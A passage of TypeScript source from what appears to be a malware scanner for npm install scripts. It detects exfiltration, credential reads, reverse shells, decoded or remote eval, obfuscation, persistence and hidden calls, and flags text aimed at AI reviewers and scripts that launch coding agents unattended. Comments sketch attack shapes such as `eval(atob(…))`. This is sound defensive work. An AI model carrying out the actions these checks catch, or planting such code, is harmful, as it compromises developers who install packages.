    const c = text[i];
    if (c === '"' || c === "'" || c === '`') {
      const quote = c;
      for (i++; i < limit && text[i] !== quote; i += text[i] === '\\' ? 2 : 1);
    } else if (c === open) depth++;
    else if (c === close && --depth === 0) return i;
  }
  return limit;
}

/**
 * Decoded text evaluated: eval / new Function / vm whose argument decodes (`eval(atob(…))`, a
 * self-decoding function expression), or is a name assigned from decoding in the same file
 * (`const code = Buffer.from(x, 'hex')…; new Function(code)`).
 */
function evaluatesDecoded(text: string, executor: RegExp = EVAL): boolean {
  const evals = new RegExp(executor.source, 'g');
  const names = new Set<string>();
  let seen = 0;
  for (const match of text.matchAll(evals)) {
    if (++seen > MAX_EVALS) break;
    // The call's own parenthesis: the match's last character when it ends with one (`(0, eval)(`).
    const open = match[0].endsWith('(') ? match.index + match[0].length - 1 : text.indexOf('(', match.index);
    if (open < 0 || open > match.index + match[0].length) continue;
    const argument = argumentText(text, open);
    if (DECODE.test(argument)) return true;
    const name = /^\s*([A-Za-z_$][\w$]{0,60})\s*(?:[,)]|$)/.exec(argument)?.[1];
    if (name === undefined || names.has(name)) continue;
    names.add(name);
    if (new RegExp(String.raw`(?<![\w$.])${name.replaceAll('$', '\\$')}\s*=\s*[^;\n]{0,400}?(?:${DECODE.source})`, 'i').test(text)) return true;
  }
  return false;
}

/**
 * Distinct javascript-obfuscator names (`_0x1a2b3c`) in a text, counting at most `stopAt`: its
 * output names every identifier so, while hand-written, minified and bundled code names none (0
 * of 31,205 JavaScript files in 484 popular npm packages has three).
 */
export function distinctObfuscatorNames(text: string, seen: Set<string> = new Set(), openEnded = false, stopAt = MIN_OBFUSCATED_FILE_NAMES): Set<string> {
  for (const match of text.matchAll(OBFUSCATOR_NAME)) {
    if (seen.size >= stopAt) break;
    // In a text that goes on (a chunk of a stream), a name touching its end may be cut short.
    if (openEnded && match.index + match[0].length === text.length) continue;
    seen.add(match[0].toLowerCase());
  }
  return seen;
}

/** Distinct obfuscator names that make a file obfuscated (obfuscated-code). */
export const MIN_OBFUSCATED_FILE_NAMES = 10;

function obfuscatorNames(text: string): number {
  let count = 0;
  for (const _ of text.matchAll(OBFUSCATOR_NAME)) if (++count >= MIN_OBFUSCATOR_NAMES) break;
  return count;
}

/** A longer text is read in windows of this many characters, each overlapping the one before. */
const WINDOW_CHARS = 1024 * 1024;
const WINDOW_OVERLAP_CHARS = 128 * 1024;

/**
 * The windows a file is read in: the whole of a file of up to WINDOW_CHARS, and a longer one (a
 * bundle of many modules) in windows of that size, each overlapping the one before by
 * WINDOW_OVERLAP_CHARS so that code across a border is whole in one of them. The findings are
 * combinations (a network call beside host data), and in a multi-MiB bundle of unrelated
 * modules they would combine across modules: a window judges as much code together as a file
 * was judged on before bundles were read to their end (docs/checks.md, `install-scripts`).
 */
export function readingWindows(text: string): string[] {
  const windows: string[] = [];
  for (let start = 0; ; start += WINDOW_CHARS - WINDOW_OVERLAP_CHARS) {
    windows.push(text.slice(start, start + WINDOW_CHARS));
    if (start + WINDOW_CHARS >= text.length) return windows;
  }
}

/**
 * The findings in one JavaScript file an install script runs (empty when none), read to
 * MAX_SCANNED_CHARS in windows. `obfuscated: false`: a reader that keeps no `obfuscated` finding
 * (load-code.ts) is spared the search for it.
 */
export function readInstallJavaScript(source: string, options: { obfuscated?: boolean } = {}): CodeFinding[] {
  const obfuscated = options.obfuscated !== false;
  const flags = new Set<CodeFlag>();
  for (const window of readingWindows(source.slice(0, MAX_SCANNED_CHARS))) for (const flag of readWindow(window, obfuscated)) flags.add(flag);
  return [...flags].map((flag) => ({ flag, grade: GRADE[flag] }));
}

function readWindow(scanned: string, obfuscated: boolean): Set<CodeFlag> {
  const text = stripComments(scanned);
  const flags = readCode(text, obfuscated);
  // Words for an AI reviewer sit in comments as often as in strings: read with them.
  if (REVIEWER_DIRECTED.test(scanned)) flags.add('reviewer-directed');
  // The same shapes behind hidden names (`os['host' + 'name']()`): the revealed text is read too,
  // since folding a decoded literal also removes the decoding that readCode looks for.
  const revealed = revealNames(text);
  if (revealed.text !== text) for (const flag of readCode(revealed.text, obfuscated)) flags.add(flag);
  if (revealed.hidden.length > 0) flags.add('hidden-call');
  return flags;
}

/** A name bound to `require` itself (`const r = require`, `const r = global.require`, `global['req' + 'uire']` once revealed). */
const REQUIRE_ALIAS = /\b(?:const|let|var)\s+([\w$]{1,100})\s*=\s*(?:(?:global|globalThis|module|window)\s*\.\s*)?require\s*(?=[;,)\n]|$)/g;

/** The text with the calls of a name bound to `require` spelled as `require(` calls, so that what they load is read as loaded. */
function withRequireAliases(text: string): string {
  const names = new Set([...text.matchAll(REQUIRE_ALIAS)].map((m) => m[1]!).filter((name) => name !== 'require'));
  if (names.size === 0) return text;
  const escaped = [...names].slice(0, 16).map((name) => name.replace(/\$/g, '\\$'));
  return text.replace(new RegExp(`(?<![\\w$.])(?:${escaped.join('|')})(?=\\s*\\()`, 'g'), 'require');
}

function readCode(source: string, obfuscated: boolean): Set<CodeFlag> {
  const text = withRequireAliases(source);
  const network = NETWORK.test(text);
  const catcher = CATCHER_HOST.test(text) || (network && NAME_IN_HOST.test(text));
  const process = PROCESS.test(text);
  const reads = FILE_READ.test(text) || (process && COMMAND_READ.test(text));
  const evaluates = EVAL.test(text);
  const flags = new Set<CodeFlag>();
  // curl / wget run through child_process send too.
  const downloads = process && runsDownloadCommand(text);
  const sendsOut = network || catcher || downloads;
  if (sendsOut && (readsHostData(text) || ENV_DUMP.test(text) || (reads && (CREDENTIAL_FILES.test(text) || TOKENS.test(text))))) flags.add('exfiltration');
  if (catcher) flags.add('beacon');
  if (reads && CREDENTIAL_FILES.test(text)) flags.add('credential-read');
  if (DEV_TCP.test(text) || (SOCKET.test(text) && process && SHELL_PROGRAM.test(text) && PIPES.test(text))) flags.add('reverse-shell');
  if (process && NPM_PUBLISH.test(text)) flags.add('publishes');
  if (DESTRUCTIVE.test(text)) flags.add('destructive');
  if (PERSISTENCE.test(text) && WRITES.test(text) && writesStartupPlace(withoutStartupComments(text))) flags.add('persistence');
  if (USER_FOLDER.test(text) && WRITES.test(text)) flags.add('user-files');
  if ((evaluates && evaluatesDecoded(text)) || (process && evaluatesDecoded(text, EXEC_CALL))) flags.add('decoded-eval');
  // Both in one file is not enough (Emscripten's glue): the evaluation must be given what was downloaded (remote-eval.ts).
  if (network && evaluatesDownloaded(text)) flags.add('remote-eval');
  if (obfuscated && (obfuscatorNames(text) >= MIN_OBFUSCATOR_NAMES || hasBlob(text))) flags.add('obfuscated');
  if (publicIpUrl(text) || DROP_HOST.test(text) || downloads) flags.add('download-exec');
  if (process && DETACHED.test(text) && UNREF.test(text)) flags.add('detached-process');
  if (process && runsAgentUnattended(text)) flags.add('agent-unleashed');
  if (WRITES.test(text) && AGENT_CONTROL_PATH.test(text)) flags.add('agent-instructions');
  return flags;
}

/** The grade of a flag, for findings read from other languages (shell, Python) that share the labels. */
export function gradeOf(flag: CodeFlag): CodeFinding['grade'] {
  return GRADE[flag];
}
